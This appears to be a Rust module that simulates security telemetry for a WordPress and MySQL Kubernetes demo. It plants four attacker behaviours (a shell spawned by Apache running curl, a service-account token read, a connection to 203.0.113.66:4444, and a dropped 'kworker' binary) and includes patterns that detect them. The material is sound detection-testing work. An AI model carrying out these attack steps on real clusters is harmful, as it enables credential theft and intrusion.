//! The demo data set: six hours of a small two-node cluster running WordPress and MySQL, with
//! four attacker behaviours after 12:00.
//!
//! Everything is simulated from a fixed seed: processes are started with consistent pid/ppid
//! chains, requests arrive at random with a rate that follows the morning's traffic, and
//! every raw event is pushed into a [`DedupWindow`] per hour, so `count`, `ts_first` and
//! `ts_last` mean what they mean in collector output. See the crate README for the contents.
//!
//! Conventions of the rows (shared with the collector's eBPF sensors):
//! - process rows (`op = process`) are `execve`s: `process` is the executed path, `path` and
//!   `access` are empty; `fork`s without exec (apache2 workers) have no process row;
//! - ephemeral ports are not recorded: a `connect` has `remote_*` and `local_addr`, an `accept`
//!   has `local_addr`/`local_port` and `remote_addr`;
//! - unix sockets have `proto = unix` and the socket path in `local_addr` (accept, listen) or
//!   `remote_addr` (connect);
//! - pids are host pids, allocated per node in time order.

use std::cmp::Ordering;
use std::collections::HashSet;

use karmor_contract::dedup::DedupWindow;
use karmor_contract::schema::{Event, Op, Source};

use crate::rng::{container_id_for, uuid_for, Rng};

/// Cluster name of every demo row.
pub const CLUSTER: &str = "demo";
/// The application namespace.
pub const NAMESPACE: &str = "wordpress-mysql";
/// Nodes of the demo cluster.
pub const NODES: [&str; 2] = ["node-a", "node-b"];

const NS: i64 = 1_000_000_000;
const MS: i64 = 1_000_000;
const US: i64 = 1_000;
const HOUR: i64 = 3600 * NS;

/// Start of the demo: 2026-11-20T08:00:00Z, in ns since the epoch.
pub const START_NS: i64 = 1_795_161_600 * NS;
/// Length of the demo in hours.
pub const HOURS: i64 = 6;
/// End of the demo (exclusive): 2026-11-20T14:00:00Z.
pub const END_NS: i64 = START_NS + HOURS * HOUR;
/// 2026-11-20T12:00:00Z: every suspicious behaviour happens after this instant, so a policy
/// learned from `[START_NS, SUSPICIOUS_AFTER_NS)` has never seen them.
pub const SUSPICIOUS_AFTER_NS: i64 = START_NS + 4 * HOUR;

/// A clock time on 2026-11-20 (UTC), in ns since the epoch.
pub const fn at(h: i64, m: i64, s: i64, ms: i64) -> i64 {
    START_NS + ((h - 8) * 3600 + m * 60 + s) * NS + ms * MS
}

const SEED: u64 = 0x6b61_726d_6f72_2d31; // "karmor-1"

// ---------------------------------------------------------------------------------------------
// Suspicious behaviours
// ---------------------------------------------------------------------------------------------

/// The attacker's behaviours hidden in the demo, as `(name, description)`. Each is one or two
/// rows (see [`suspicious_kind`]) seen exactly once, all after [`SUSPICIOUS_AFTER_NS`].
pub const SUSPICIOUS: &[(&str, &str)] = &[
    (
        "apache-spawns-shell",
        "13:07:52 in wordpress (pod on node-b): an apache2 worker (uid 33) executes `/bin/sh -c curl ...`, \
         and that shell executes `/usr/bin/curl` (2 process rows)",
    ),
    (
        "php-reads-sa-token",
        "12:41:09 in wordpress (pod on node-b): `/usr/local/bin/php` reads \
         /var/run/secrets/kubernetes.io/serviceaccount/token (1 file row)",
    ),
    (
        "connect-unknown-ip",
        "13:07:53 in wordpress (pod on node-b): `/usr/bin/curl` opens a TCP connection to \
         203.0.113.66:4444 (1 network row)",
    ),
    (
        "mysql-drops-binary",
        "13:22:15 in mysql: a `/bin/sh` started through the runtime (kubectl exec with the stolen \
         token) creates /usr/bin/kworker (the shell's process row and the file row: 2 rows)",
    ),
];

/// Number of rows [`is_suspicious`] recognises in [`events`].
pub const SUSPICIOUS_ROWS: usize = 6;

const SA_TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const C2_ADDR: &str = "203.0.113.66";
const C2_PORT: u16 = 4444;
const DROPPED_BINARY: &str = "/usr/bin/kworker";

fn is_ns_workload(e: &Event, workload: &str) -> bool {
    e.namespace.as_deref() == Some(NAMESPACE) && e.workload.as_deref() == Some(workload)
}

/// Which of the [`SUSPICIOUS`] behaviours a row belongs to, by name.
pub fn suspicious_kind(e: &Event) -> Option<&'static str> {
    let process = e.process.as_deref();
    let parent = e.parent_process.as_deref();
    if is_ns_workload(e, "wordpress") {
        match e.op {
            Op::Process
                if (process == Some("/bin/sh") && parent == Some("/usr/sbin/apache2"))
                    || (process == Some("/usr/bin/curl") && parent == Some("/bin/sh")) =>
            {
                return Some(SUSPICIOUS[0].0)
            }
            Op::File if e.path.as_deref() == Some(SA_TOKEN) => return Some(SUSPICIOUS[1].0),
            Op::Network
                if e.remote_addr.as_deref() == Some(C2_ADDR)
                    && e.remote_port == Some(C2_PORT)
                    && e.direction.as_deref() == Some("connect") =>
            {
                return Some(SUSPICIOUS[2].0)
            }
            _ => {}
        }
    }
    if is_ns_workload(e, "mysql") && process == Some("/bin/sh") {
        match e.op {
            Op::Process if parent == Some("/usr/bin/containerd-shim-runc-v2") => {
                return Some(SUSPICIOUS[3].0)
            }
            Op::File if e.path.as_deref() == Some(DROPPED_BINARY) => return Some(SUSPICIOUS[3].0),
            _ => {}
        }
    }
    None
}

/// True for exactly the rows of the [`SUSPICIOUS`] behaviours.
pub fn is_suspicious(e: &Event) -> bool {
    suspicious_kind(e).is_some()
}

// ---------------------------------------------------------------------------------------------
// Generation machinery
// ---------------------------------------------------------------------------------------------

struct Gen {
    rng: Rng,
    windows: Vec<DedupWindow>,
    pids: HashSet<(String, i32)>,
}

impl Gen {
    fn new() -> Self {
        Gen {
            rng: Rng::new(SEED),
            windows: (0..HOURS).map(|_| DedupWindow::new()).collect(),
            pids: HashSet::new(),
        }
    }

    fn push(&mut self, e: Event) {
        let hour = (e.ts_first - START_NS).div_euclid(HOUR);
        assert!(
            (0..HOURS).contains(&hour),
            "demo event outside 08:00-14:00: {e:?}"
        );
        self.windows[hour as usize].push(e);
    }

    /// Host pids grow with time (about four per second per node); a pid is never reused.
    fn alloc_pid(&mut self, node: &str, ts: i64) -> i32 {
        let base = if node == "node-a" { 31_240 } else { 28_915 };
        let mut pid = base + ((ts - START_NS) / (250 * MS)) as i32;
        while !self.pids.insert((node.to_string(), pid)) {
            pid += 1;
        }
        pid
    }

    fn finish(mut self) -> Vec<Event> {
        let mut rows: Vec<Event> = self.windows.iter_mut().flat_map(|w| w.drain()).collect();
        rows.sort_by(compare_rows);
        rows
    }
}

/// A total order on rows (the de-duplication window hands them out in hash order).
fn compare_rows(a: &Event, b: &Event) -> Ordering {
    let key1 = |e: &Event| {
        (
            e.ts_first,
            e.node.clone(),
            e.namespace.clone(),
            e.pod.clone(),
            e.container.clone(),
            e.op,
            e.pid,
            e.process.clone(),
            e.path.clone(),
            e.access.clone(),
            e.remote_addr.clone(),
            e.remote_port,
        )
    };
    let key2 = |e: &Event| {
        (
            e.ts_last,
            e.count,
            e.direction.clone(),
            e.proto.clone(),
            e.local_addr.clone(),
            e.local_port,
            e.ppid,
            e.uid,
            e.parent_process.clone(),
            e.args.clone(),
            e.result.clone(),
            e.syscall.clone(),
        )
    };
    key1(a)
        .cmp(&key1(b))
        .then_with(|| key2(a).cmp(&key2(b)))
        .then_with(|| {
            (
                &a.labels,
                &a.image,
                &a.workload,
                &a.pod_uid,
                &a.container_id,
                a.host,
            )
                .cmp(&(
                    &b.labels,
                    &b.image,
                    &b.workload,
                    &b.pod_uid,
                    &b.container_id,
                    b.host,
                ))
        })
}

fn s(v: &str) -> Option<String> {
    Some(v.to_string())
}

/// The "where" part of host rows.
fn host_where(node: &str) -> Event {
    Event {
        count: 1,
        cluster: s(CLUSTER),
        node: node.into(),
        host: true,
        source: Source::Ebpf,
        ..Event::default()
    }
}

struct PodSpec<'a> {
    namespace: &'a str,
    pod: &'a str,
    container: &'a str,
    image: &'a str,
    kind: &'a str,
    workload: &'a str,
    labels: &'a [&'a str],
    node: &'a str,
}

/// The "where" part of container rows.
fn pod_where(p: &PodSpec) -> Event {
    let mut labels: Vec<String> = p.labels.iter().map(|l| l.to_string()).collect();
    labels.sort();
    Event {
        count: 1,
        cluster: s(CLUSTER),
        node: p.node.into(),
        namespace: s(p.namespace),
        pod: s(p.pod),
        pod_uid: Some(uuid_for(&format!("{}/{}", p.namespace, p.pod))),
        container: s(p.container),
        container_id: Some(container_id_for(&format!(
            "{}/{}/{}",
            p.namespace, p.pod, p.container
        ))),
        image: s(p.image),
        workload_kind: s(p.kind),
        workload: s(p.workload),
        labels,
        host: false,
        source: Source::Ebpf,
        ..Event::default()
    }
}

/// A running process: a row template with the "where" and "who" columns filled in.
#[derive(Clone)]
struct Proc {
    t: Event,
}

impl Proc {
    fn new(
        place: &Event,
        pid: i32,
        ppid: i32,
        uid: u32,
        exe: &str,
        parent: &str,
        args: &str,
    ) -> Proc {
        let mut t = place.clone();
        t.pid = Some(pid);
        t.ppid = Some(ppid);
        t.uid = Some(uid);
        t.process = s(exe);
        t.parent_process = s(parent);
        t.args = s(args);
        Proc { t }
    }

    fn pid(&self) -> i32 {
        self.t.pid.unwrap_or_default()
    }

    fn exe(&self) -> &str {
        self.t.process.as_deref().unwrap_or_default()
    }

    fn row(&self, ts: i64, op: Op, syscall: &str) -> Event {
        let mut e = self.t.clone();
        e.ts_first = ts;
        e.ts_last = ts;
        e.count = 1;
        e.op = op;
        e.syscall = s(syscall);
        e.result = s("Passed");
        e
    }

    fn exec_row(&self, g: &mut Gen, ts: i64) {
        g.push(self.row(ts, Op::Process, "SYS_EXECVE"));
    }

    /// A child started with fork+exec in `place` (the same place for ordinary children, a
    /// container for the runtime shim's children).
    fn child_in(
        &self,
        g: &mut Gen,
        place: &Event,
        ts: i64,
        exe: &str,
        args: &str,
        uid: u32,
    ) -> Proc {
        let pid = g.alloc_pid(&place.node, ts);
        let p = Proc::new(place, pid, self.pid(), uid, exe, self.exe(), args);
        p.exec_row(g, ts);
        p
    }

    fn spawn(&self, g: &mut Gen, ts: i64, exe: &str, args: &str, uid: u32) -> Proc {
        let place = self.t.clone();
        self.child_in(g, &place, ts, exe, args, uid)
    }

    /// `execve` in the same process: same pid and parent, new program.
    fn exec_as(&self, g: &mut Gen, ts: i64, exe: &str, args: &str, uid: u32) -> Proc {
        let mut p = self.clone();
        p.t.process = s(exe);
        p.t.args = s(args);
        p.t.uid = Some(uid);
        p.exec_row(g, ts);
        p
    }

    /// `fork` without exec: a new pid running the same program (no process row).
    fn fork(&self, g: &mut Gen, ts: i64, uid: u32) -> Proc {
        let mut p = self.clone();
        p.t.pid = Some(g.alloc_pid(&self.t.node, ts));
        p.t.ppid = Some(self.pid());
        p.t.parent_process = self.t.process.clone();
        p.t.uid = Some(uid);
        p
    }

    fn file_result(&self, g: &mut Gen, ts: i64, path: &str, access: &str, result: &str) {
        let mut e = self.row(ts, Op::File, "SYS_OPENAT");
        e.path = s(path);
        e.access = s(access);
        if access == "delete" {
            e.syscall = s("SYS_UNLINKAT");
        } else if access == "rename" {
            e.syscall = s("SYS_RENAMEAT2");
        }
        e.result = s(result);
        g.push(e);
    }

    fn file(&self, g: &mut Gen, ts: i64, path: &str, access: &str) {
        self.file_result(g, ts, path, access, "Passed");
    }

    fn read(&self, g: &mut Gen, ts: i64, path: &str) {
        self.file(g, ts, path, "read");
    }

    /// Reads of several files, 200 µs apart; returns the time after the last.
    fn reads(&self, g: &mut Gen, ts: i64, paths: &[&str]) -> i64 {
        let mut t = ts;
        for p in paths {
            self.read(g, t, p);
            t += 200 * US;
        }
        t
    }

    /// The dynamic loader's work at exec: ld.so.cache, then each library.
    fn loads(&self, g: &mut Gen, ts: i64, libs: &[&str]) -> i64 {
        self.read(g, ts + 100 * US, "/etc/ld.so.cache");
        self.reads(g, ts + 300 * US, libs)
    }

    fn net(&self, ts: i64, proto: &str, direction: &str, syscall: &str) -> Event {
        let mut e = self.row(ts, Op::Network, syscall);
        e.proto = s(proto);
        e.direction = s(direction);
        e
    }

    #[allow(clippy::too_many_arguments)]
    fn connect(
        &self,
        g: &mut Gen,
        ts: i64,
        proto: &str,
        local: Option<&str>,
        remote: &str,
        port: Option<u16>,
        name: Option<&str>,
    ) {
        let mut e = self.net(ts, proto, "connect", "SYS_CONNECT");
        e.local_addr = local.map(String::from);
        e.remote_addr = s(remote);
        e.remote_port = port;
        e.remote_name = name.map(String::from);
        g.push(e);
    }

    fn accept(
        &self,
        g: &mut Gen,
        ts: i64,
        proto: &str,
        local: &str,
        port: Option<u16>,
        remote: Option<&str>,
    ) {
        let mut e = self.net(ts, proto, "accept", "SYS_ACCEPT4");
        e.local_addr = s(local);
        e.local_port = port;
        e.remote_addr = remote.map(String::from);
        g.push(e);
    }

    /// `bind` then `listen`.
    fn listen(&self, g: &mut Gen, ts: i64, proto: &str, local: &str, port: Option<u16>) {
        for (i, (direction, syscall)) in [("bind", "SYS_BIND"), ("listen", "SYS_LISTEN")]
            .into_iter()
            .enumerate()
        {
            let mut e = self.net(ts + i as i64 * 50 * US, proto, direction, syscall);
            e.local_addr = s(local);
            e.local_port = port;
            g.push(e);
        }
    }
}

/// Times of a periodic activity: every `period` from `first` until the end of the demo.
fn every(first: i64, period: i64) -> impl Iterator<Item = i64> {
    (0..)
        .map(move |i| first + i * period)
        .take_while(|t| *t < END_NS)
}

// ---------------------------------------------------------------------------------------------
// The cluster
// ---------------------------------------------------------------------------------------------

const SHIM: &str = "/usr/bin/containerd-shim-runc-v2";
const CONTAINERD_SOCK: &str = "/run/containerd/containerd.sock";
const API_ADDR: &str = "10.0.0.10";
const API_NAME: &str = "api.demo.internal";
const DNS_ADDR: &str = "10.96.0.10";
const DNS_NAME: &str = "kube-dns.kube-system.svc.cluster.local";
const MYSQL_SVC_ADDR: &str = "10.96.12.7";
const MYSQL_SVC_NAME: &str = "mysql.wordpress-mysql.svc.cluster.local";
const BASTION: &str = "10.0.0.5";

/// Host-side processes of one node.
struct Node {
    name: &'static str,
    ip: &'static str,
    /// The node's address on the pod network (cni0): source of kubelet probes.
    gw: &'static str,
    containerd: Proc,
    kubelet: Proc,
    sshd: Proc,
}

fn node(name: &'static str, ip: &'static str, gw: &'static str, pids: [i32; 3]) -> Node {
    let place = host_where(name);
    let systemd = "/usr/lib/systemd/systemd";
    Node {
        name,
        ip,
        gw,
        containerd: Proc::new(
            &place,
            pids[0],
            1,
            0,
            "/usr/bin/containerd",
            systemd,
            "/usr/bin/containerd",
        ),
        kubelet: Proc::new(
            &place,
            pids[1],
            1,
            0,
            "/usr/bin/kubelet",
            systemd,
            "/usr/bin/kubelet --bootstrap-kubeconfig=/etc/kubernetes/bootstrap-kubelet.conf \
             --kubeconfig=/etc/kubernetes/kubelet.conf --config=/var/lib/kubelet/config.yaml \
             --container-runtime-endpoint=unix:///run/containerd/containerd.sock",
        ),
        sshd: Proc::new(
            &place,
            pids[2],
            1,
            0,
            "/usr/sbin/sshd",
            systemd,
            "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        ),
    }
}

/// The runtime's work to start a container: containerd starts a shim, the shim runs runc, the
/// kubelet writes the pod's files. Returns the shim, parent of the container's first process.
fn start_container(g: &mut Gen, n: &Node, pod: &Event, t0: i64) -> Proc {
    let cid = pod.container_id.clone().unwrap_or_default();
    let uid = pod.pod_uid.clone().unwrap_or_default();
    let container = pod.container.clone().unwrap_or_default();
    let task = format!("/run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}");
    let kubelet_dir = format!("/var/lib/kubelet/pods/{uid}");
    n.kubelet
        .file(g, t0, &format!("{kubelet_dir}/etc-hosts"), "create");
    n.kubelet
        .connect(g, t0 + MS, "unix", None, CONTAINERD_SOCK, None, None);
    n.containerd
        .accept(g, t0 + MS + 200 * US, "unix", CONTAINERD_SOCK, None, None);
    n.containerd.file(
        g,
        t0 + 3 * MS,
        "/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db",
        "write",
    );
    n.containerd
        .file(g, t0 + 9 * MS, &format!("{task}/config.json"), "create");
    let shim = n.containerd.spawn(
        g,
        t0 + 12 * MS,
        SHIM,
        &format!("{SHIM} -namespace k8s.io -id {cid} -address {CONTAINERD_SOCK}"),
        0,
    );
    let runc = shim.spawn(
        g,
        t0 + 40 * MS,
        "/usr/sbin/runc",
        &format!(
            "runc --root /run/containerd/runc/k8s.io --log {task}/log.json --log-format json \
             create --bundle {task} --pid-file {task}/init.pid {cid}"
        ),
        0,
    );
    runc.read(g, t0 + 45 * MS, &format!("{task}/config.json"));
    runc.file(g, t0 + 60 * MS, &format!("{task}/init.pid"), "create");
    n.kubelet.file(
        g,
        t0 + 150 * MS,
        &format!("{kubelet_dir}/containers/{container}/{}", &cid[..8]),
        "create",
    );
    shim
}

const BASH_LIBS: &[&str] = &[
    "/usr/lib/x86_64-linux-gnu/libtinfo.so.6",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
];
const COREUTILS_LIBS: &[&str] = &[
    "/usr/lib/x86_64-linux-gnu/libselinux.so.1",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
];

// ---------------------------------------------------------------------------------------------
// MySQL
// ---------------------------------------------------------------------------------------------

struct Mysql {
    ip: &'static str,
    shim: Proc,
    mysqld: Proc,
}

const MYSQL_LIBS: &[&str] = &[
    "/usr/lib64/libpthread.so.0",
    "/usr/lib64/mysql/private/libprotobuf-lite.so.3.19.4",
    "/usr/lib64/libssl.so.3",
    "/usr/lib64/libcrypto.so.3",
    "/usr/lib64/libaio.so.1",
    "/usr/lib64/libnuma.so.1",
    "/usr/lib64/libstdc++.so.6",
    "/usr/lib64/libm.so.6",
    "/usr/lib64/libgcc_s.so.1",
    "/usr/lib64/libc.so.6",
];
const MYSQL_CONF: &[&str] = &[
    "/etc/my.cnf",
    "/etc/mysql/conf.d/docker.cnf",
    "/etc/mysql/conf.d/wordpress-tuning.cnf",
];
const WP_TABLES: &[&str] = &[
    "wp_options",
    "wp_posts",
    "wp_postmeta",
    "wp_users",
    "wp_usermeta",
    "wp_terms",
    "wp_term_taxonomy",
    "wp_term_relationships",
    "wp_termmeta",
    "wp_comments",
    "wp_commentmeta",
    "wp_links",
];
const DATADIR: &str = "/var/lib/mysql";

fn mysql(g: &mut Gen, n: &Node, t0: i64) -> Mysql {
    let spec = PodSpec {
        namespace: NAMESPACE,
        pod: "mysql-6f4d9b8c7-2hjtn",
        container: "mysql",
        image: "mysql:8.0",
        kind: "Deployment",
        workload: "mysql",
        labels: &["app=mysql", "tier=backend", "pod-template-hash=6f4d9b8c7"],
        node: n.name,
    };
    let place = pod_where(&spec);
    let shim = start_container(g, n, &place, t0);
    let t = t0 + 300 * MS;
    let bash_libs: &[&str] = &["/usr/lib64/libtinfo.so.6", "/usr/lib64/libc.so.6"];
    let ep = shim.child_in(
        g,
        &place,
        t,
        "/usr/local/bin/docker-entrypoint.sh",
        "docker-entrypoint.sh mysqld",
        0,
    );
    ep.loads(g, t, bash_libs);
    // docker-entrypoint.sh: mysql_check_config / mysql_get_config for datadir and socket.
    for (i, key) in ["datadir", "socket"].iter().enumerate() {
        let ti = t + (400 + i as i64 * 900) * MS;
        let check = ep.spawn(
            g,
            ti,
            "/usr/sbin/mysqld",
            "mysqld --verbose --help --log-bin-index=/tmp/tmp.J5dkqT9Fkg",
            0,
        );
        let tl = check.loads(g, ti, MYSQL_LIBS);
        check.reads(g, tl, MYSQL_CONF);
        let awk = ep.spawn(
            g,
            ti + 2 * MS,
            "/usr/bin/awk",
            &format!(
                "awk -v conf={key} $1 == conf && /^[^ \\t]/ {{ sub(/^[^ \\t]+[ \\t]+/, \"\"); print; exit }}"
            ),
            0,
        );
        awk.loads(
            g,
            ti + 2 * MS,
            &["/usr/lib64/libm.so.6", "/usr/lib64/libc.so.6"],
        );
    }
    let t = t + 2500 * MS;
    let mkdir = ep.spawn(
        g,
        t,
        "/usr/bin/mkdir",
        "mkdir -p /var/lib/mysql /var/run/mysqld",
        0,
    );
    mkdir.loads(
        g,
        t,
        &["/usr/lib64/libselinux.so.1", "/usr/lib64/libc.so.6"],
    );
    let find = ep.spawn(
        g,
        t + 30 * MS,
        "/usr/bin/find",
        "find /var/lib/mysql /var/run/mysqld ! -user mysql -exec chown mysql: {} +",
        0,
    );
    find.loads(
        g,
        t + 30 * MS,
        &["/usr/lib64/libselinux.so.1", "/usr/lib64/libc.so.6"],
    );
    find.read(g, t + 32 * MS, DATADIR);
    find.read(g, t + 33 * MS, "/var/run/mysqld");
    let t = t + 200 * MS;
    let gosu = ep.exec_as(
        g,
        t,
        "/usr/local/bin/gosu",
        "gosu mysql docker-entrypoint.sh mysqld",
        0,
    );
    gosu.read(g, t + MS, "/etc/passwd");
    gosu.read(g, t + MS + 200 * US, "/etc/group");
    let ep2 = gosu.exec_as(
        g,
        t + 5 * MS,
        "/usr/local/bin/docker-entrypoint.sh",
        "docker-entrypoint.sh mysqld",
        999,
    );
    ep2.loads(g, t + 5 * MS, bash_libs);
    let t = t + 300 * MS;
    let mysqld = ep2.exec_as(g, t, "/usr/sbin/mysqld", "mysqld", 999);
    let tl = mysqld.loads(g, t, MYSQL_LIBS);
    let mut tt = mysqld.reads(g, tl, MYSQL_CONF);
    let d = |f: &str| format!("{DATADIR}/{f}");
    for f in [
        "auto.cnf",
        "mysql.ibd",
        "undo_001",
        "undo_002",
        "binlog.index",
        "binlog.000011",
    ] {
        mysqld.read(g, tt, &d(f));
        tt += 500 * US;
    }
    for (f, access) in [
        ("ibdata1", "read"),
        ("ibdata1", "write"),
        ("ib_logfile0", "read"),
        ("ib_logfile0", "write"),
        ("ib_logfile1", "read"),
        ("ib_buffer_pool", "read"),
        ("binlog.000012", "create"),
        ("binlog.index", "write"),
        ("mysqld-auto.cnf", "read"),
        ("ca.pem", "read"),
        ("server-cert.pem", "read"),
        ("server-key.pem", "read"),
        ("private_key.pem", "read"),
        ("public_key.pem", "read"),
        ("sys/sys_config.ibd", "read"),
    ] {
        mysqld.file(g, tt, &d(f), access);
        tt += 2 * MS;
    }
    for i in 1..=10 {
        mysqld.file(g, tt, &d(&format!("#innodb_temp/temp_{i}.ibt")), "create");
        tt += MS;
    }
    for table in WP_TABLES {
        mysqld.read(g, tt, &d(&format!("wordpress/{table}.ibd")));
        tt += MS;
    }
    mysqld.file(g, tt, "/var/run/mysqld/mysqld.pid", "create");
    mysqld.listen(g, tt + 5 * MS, "tcp", "0.0.0.0", Some(3306));
    mysqld.listen(g, tt + 6 * MS, "tcp", "0.0.0.0", Some(33060));
    mysqld.listen(g, tt + 7 * MS, "unix", "/var/run/mysqld/mysqld.sock", None);
    mysqld.listen(g, tt + 8 * MS, "unix", "/var/run/mysqld/mysqlx.sock", None);
    Mysql {
        ip: "10.244.1.17",
        shim,
        mysqld,
    }
}

impl Mysql {
    fn binlog(ts: i64) -> &'static str {
        if ts < at(11, 30, 0, 0) {
            "binlog.000012"
        } else {
            "binlog.000013"
        }
    }

    /// One client connection from a WordPress pod, with a few queries.
    fn serve(&self, g: &mut Gen, ts: i64, client: &str, writes: bool) {
        let m = &self.mysqld;
        m.accept(g, ts, "tcp", self.ip, Some(3306), Some(client));
        if g.rng.chance(0.06) {
            let table = *g.rng.pick(WP_TABLES);
            m.read(g, ts + 2 * MS, &format!("{DATADIR}/wordpress/{table}.ibd"));
        }
        if g.rng.chance(0.03) {
            let n = g.rng.range(1, 10);
            m.file(
                g,
                ts + 3 * MS,
                &format!("{DATADIR}/#innodb_temp/temp_{n}.ibt"),
                "write",
            );
        }
        if writes {
            m.file(
                g,
                ts + 4 * MS,
                &format!("{DATADIR}/{}", Self::binlog(ts)),
                "write",
            );
            m.file(
                g,
                ts + 4 * MS + 300 * US,
                &format!("{DATADIR}/ib_logfile0"),
                "write",
            );
        }
    }

    fn background(&self, g: &mut Gen, n: &Node, t0: i64) {
        let m = self.mysqld.clone();
        let d = |f: &str| format!("{DATADIR}/{f}");
        for t in every(t0 + 7 * NS, 60 * NS) {
            m.file(g, t, &d("ib_logfile0"), "write");
        }
        for t in every(t0 + 53 * NS, 600 * NS) {
            m.file(g, t, &d("ib_logfile1"), "write");
        }
        for t in every(t0 + 131 * NS, 300 * NS) {
            m.file(g, t, &d("ibdata1"), "write");
        }
        for t in every(t0 + 1001 * NS, 1800 * NS) {
            m.file(g, t, &d("undo_001"), "write");
            m.file(g, t + MS, &d("undo_002"), "write");
        }
        for t in every(t0 + 3607 * NS, 3600 * NS) {
            m.file(g, t, &d("ib_buffer_pool"), "write");
        }
        // FLUSH BINARY LOGS at 11:30 (the backup job's first step).
        let t = at(11, 30, 0, 0);
        m.accept(
            g,
            t - 20 * MS,
            "unix",
            "/var/run/mysqld/mysqld.sock",
            None,
            None,
        );
        m.file(g, t, &d("binlog.000013"), "create");
        m.file(g, t + MS, &d("binlog.index"), "write");
        m.file(g, t + 2 * MS, &d("binlog.000012"), "write");

        // Liveness probe every 10 s: the runtime shim executes mysqladmin in the container.
        let place = self.mysqld.t.clone();
        for t in every(t0 + 30 * NS + 310 * MS, 10 * NS) {
            let jitter = g.rng.range(0, 40) * MS;
            let t = t + jitter;
            self.shim.child_in(
                g,
                &place,
                t,
                "/usr/bin/mysqladmin",
                "mysqladmin ping -h localhost",
                0,
            );
            m.accept(
                g,
                t + 4 * MS,
                "unix",
                "/var/run/mysqld/mysqld.sock",
                None,
                None,
            );
            // The kubelet asks containerd for the exec.
            n.kubelet
                .connect(g, t - 2 * MS, "unix", None, CONTAINERD_SOCK, None, None);
            n.containerd.accept(
                g,
                t - 2 * MS + 100 * US,
                "unix",
                CONTAINERD_SOCK,
                None,
                None,
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// WordPress
// ---------------------------------------------------------------------------------------------

const WP_ROOT: &str = "/var/www/html";

const APACHE_LIBS: &[&str] = &[
    "/usr/lib/x86_64-linux-gnu/libapr-1.so.0",
    "/usr/lib/x86_64-linux-gnu/libaprutil-1.so.0",
    "/usr/lib/x86_64-linux-gnu/libpcre2-8.so.0",
    "/usr/lib/x86_64-linux-gnu/libexpat.so.1",
    "/usr/lib/x86_64-linux-gnu/libuuid.so.1",
    "/usr/lib/x86_64-linux-gnu/libcrypt.so.1",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
];

const APACHE_CONF: &[&str] = &[
    "/etc/apache2/apache2.conf",
    "/etc/apache2/mods-enabled/access_compat.load",
    "/etc/apache2/mods-enabled/alias.load",
    "/etc/apache2/mods-enabled/alias.conf",
    "/etc/apache2/mods-enabled/auth_basic.load",
    "/etc/apache2/mods-enabled/authn_core.load",
    "/etc/apache2/mods-enabled/authn_file.load",
    "/etc/apache2/mods-enabled/authz_core.load",
    "/etc/apache2/mods-enabled/authz_host.load",
    "/etc/apache2/mods-enabled/authz_user.load",
    "/etc/apache2/mods-enabled/autoindex.load",
    "/etc/apache2/mods-enabled/autoindex.conf",
    "/etc/apache2/mods-enabled/deflate.load",
    "/etc/apache2/mods-enabled/deflate.conf",
    "/etc/apache2/mods-enabled/dir.load",
    "/etc/apache2/mods-enabled/dir.conf",
    "/etc/apache2/mods-enabled/env.load",
    "/etc/apache2/mods-enabled/filter.load",
    "/etc/apache2/mods-enabled/mime.load",
    "/etc/apache2/mods-enabled/mime.conf",
    "/etc/apache2/mods-enabled/mpm_prefork.load",
    "/etc/apache2/mods-enabled/mpm_prefork.conf",
    "/etc/apache2/mods-enabled/negotiation.load",
    "/etc/apache2/mods-enabled/negotiation.conf",
    "/etc/apache2/mods-enabled/proxy.load",
    "/etc/apache2/mods-enabled/proxy_fcgi.load",
    "/etc/apache2/mods-enabled/reqtimeout.load",
    "/etc/apache2/mods-enabled/reqtimeout.conf",
    "/etc/apache2/mods-enabled/rewrite.load",
    "/etc/apache2/mods-enabled/setenvif.load",
    "/etc/apache2/mods-enabled/setenvif.conf",
    "/etc/apache2/mods-enabled/status.load",
    "/etc/apache2/mods-enabled/status.conf",
    "/etc/apache2/ports.conf",
    "/etc/apache2/conf-enabled/charset.conf",
    "/etc/apache2/conf-enabled/docker-php.conf",
    "/etc/apache2/conf-enabled/localized-error-pages.conf",
    "/etc/apache2/conf-enabled/other-vhosts-access-log.conf",
    "/etc/apache2/conf-enabled/security.conf",
    "/etc/apache2/conf-enabled/serve-cgi-bin.conf",
    "/etc/apache2/sites-enabled/000-default.conf",
    "/etc/mime.types",
    "/usr/lib/apache2/modules/mod_rewrite.so",
    "/usr/lib/apache2/modules/mod_proxy.so",
    "/usr/lib/apache2/modules/mod_proxy_fcgi.so",
    "/usr/lib/apache2/modules/mod_deflate.so",
];

const PHP_LIBS: &[&str] = &[
    "/usr/lib/x86_64-linux-gnu/libargon2.so.1",
    "/usr/lib/x86_64-linux-gnu/libsodium.so.23",
    "/usr/lib/x86_64-linux-gnu/libxml2.so.2",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3",
    "/usr/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/usr/lib/x86_64-linux-gnu/libcurl.so.4",
    "/usr/lib/x86_64-linux-gnu/libonig.so.5",
    "/usr/lib/x86_64-linux-gnu/libz.so.1",
    "/usr/lib/x86_64-linux-gnu/libm.so.6",
    "/usr/lib/x86_64-linux-gnu/libc.so.6",
];

const PHP_INIT: &[&str] = &[
    "/usr/local/etc/php/conf.d/docker-php-ext-bcmath.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-exif.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-gd.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-imagick.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-intl.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-mysqli.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-opcache.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-sodium.ini",
    "/usr/local/etc/php/conf.d/docker-php-ext-zip.ini",
    "/usr/local/etc/php/conf.d/error-logging.ini",
    "/usr/local/etc/php/conf.d/opcache-recommended.ini",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/bcmath.so",
    "/usr/local/lib/php/extensions/no-debug-non-zts-20230831/exif.so",
